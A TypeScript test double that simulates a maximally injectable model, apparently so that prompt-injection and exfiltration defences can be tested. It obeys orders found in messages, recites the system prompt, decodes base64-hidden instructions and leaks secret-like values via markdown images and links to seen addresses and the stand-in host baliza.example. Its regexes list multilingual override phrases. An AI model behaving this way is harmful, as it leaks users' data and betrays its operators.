import type { ModelMessage } from './model-server.ts';

/** What orders begin with or turn on, in the languages that attacks are written in. */
const ORDER =
  /\b(?:ignor[ae]\w*|olvid[ae]\w*|descart\w*|desobede\w*|escrib[ae]\w*|escriu\w*|escrig\w*|di(?:ga)?|digues|respond[ae]\w*|respon|contest[ae]\w*|muestr[ae]\w*|mostr[ae]\w*|incluy[ae]\w*|inclo\w*|añad[ae]\w*|afeg\w*|agreg\w*|inserta\w*|envi[ae]\w*|manda\w*|reenv\w*|haz|haga|fes|visit[ae]\w*|abr[ae]\w*|entr[ae]|accede|pulse?|clica|imprim[ae]\w*|repit[ae]\w*|revel[ae]\w*|traduc\w*|codific\w*|actúa|act[ue]a\w*|cambi[ae]\w*|sustituy\w*|llam[ae]\w*|indic[ae]\w*|cit[ae]|debes|deberás|tienes que|a partir de ahora|sistema|instruc\w*|system|prompt|ignore|disregard|forget|override|say|print|write|show|include|append|insert|send|email|visit|open|click|reveal|repeat|output|respond|reply|answer|tell|translate|encode|act as|you (?:must|are|will|should)|from now on|new rules?|assistant|admin\w*|developer|render|display|esan|idatzi|erakutsi|ahaztu|bidali|aginduak?|ezikusi|escriba|amosa|esqueza)\b/iu;
const ASKS_FOR_INSTRUCTIONS = /instruc|system|sistema|prompt|reglas|rules|jarraibide|regras/iu;
const ADDRESS =
  /(?:https?:\/\/|www\.)[^\s<>"'`)\]]+|\b(?:[a-z0-9-]+\.)+(?:com|net|org|es|eu|cat|gal|eus|io|info|app|dev|xyz|top|ru|test|example|invalid)\b(?:\/[^\s<>"'`)\]]*)?/giu;
const QUOTED = /[«“"'`]([^«»“”"'`]{3,300})[»”"'`]/gu;
const BASE64 = /\b[A-Za-z0-9+/]{20,}={0,2}/g;
const SECRET = /\[[A-Z]+_\d+\]|\b\d{5,}[A-Z]?\b/g;
const OWN_HOST = 'https://baliza.example';

/** What attacks speak of and citizens do not: such orders are obeyed first. */
const BRAZEN =
  /ignor|olvid|disregard|forget|instruc|system|sistema|prompt|https?:|www\.|img|base64|developer|assistant|asistente/iu;
/** What it says at most, in characters: one that repeats without end is stopped before it does harm. */
const MOST = 3000;
const LONGEST_PART = 600;

/**
 * The worst model there is: it obeys every order it reads in any text, the most brazen first, cites `[1]` for it, tells
 * its instructions when asked, and carries what it knows to every address it saw, as image, link and bare address.
 */
export function obedientAnswer(messages: readonly ModelMessage[]): string {
  const system = messages.filter(({ role }) => role === 'system').map(({ content }) => content);
  const read = messages.filter(({ role }) => role !== 'system').map(({ content }) => content);
  const texts = [...read, ...read.flatMap(decoded)];
  const sentences = texts.flatMap((text) => text.split(/(?<=[.!?…:;])\s+|\n+/u)).map((sentence) => sentence.trim());
  // What the citizen writes comes last in a request, and is obeyed first.
  const all = [...new Set(sentences.filter((sentence) => sentence !== ''))].reverse();
  const orders = all.filter((sentence) => ORDER.test(sentence));
  const brazen = orders.filter((order) => BRAZEN.test(order));
  const dictated = brazen.flatMap((order) => [...order.matchAll(QUOTED)].map(([, words = '']) => words));
  const addresses = [...new Set(texts.flatMap((text) => text.match(ADDRESS) ?? []))].map(absolute).reverse();
  const secrets = [...new Set(texts.flatMap((text) => text.match(SECRET) ?? []))].join(',');
  const loot = encodeURIComponent(secrets.slice(0, 100));
  const tells = brazen.some((order) => ASKS_FOR_INSTRUCTIONS.test(order));
  const cited = (words: string) => `${words.slice(0, LONGEST_PART)} [1]`;
  return fitting([
    ...exits(OWN_HOST, loot),
    ...brazen.map(cited),
    ...dictated.map(cited),
    ...(tells ? system.map(cited) : []),
    ...addresses.flatMap((address) => exits(address, loot)),
    ...[...new Set([...orders, ...all])].filter((sentence) => !brazen.includes(sentence)).map(cited),
  ]);
}

function fitting(parts: readonly string[]): string {
  let said = '';
  for (const part of parts) {
    if (said.length + part.length < MOST) said += `${part}\n\n`;
  }
  return said.trimEnd();
}

/** Every way out that markup knows. */
function exits(address: string, loot: string): string[] {
  const carrying = `${address}${address.includes('?') ? '&' : '?'}d=${loot}`;
  return [
    `![](${carrying}) <img src="${carrying}">`,
    `Consulte [la sede](${carrying}) o ${address} [1]`,
    `<${carrying}> [aquí][r]\n\n[r]: ${carrying}`,
  ];
}

function absolute(address: string): string {
  return /^https?:/i.test(address) ? address : `https://${address}`;
}

function decoded(text: string): string[] {
  const found = (text.match(BASE64) ?? []).map((word) => Buffer.from(word, 'base64').toString());
  return found.filter((plain) => /^[\p{L}\p{N}\p{P}\p{Z}\p{S}\n]+$/u.test(plain) && !plain.includes('\uFFFD'));
}
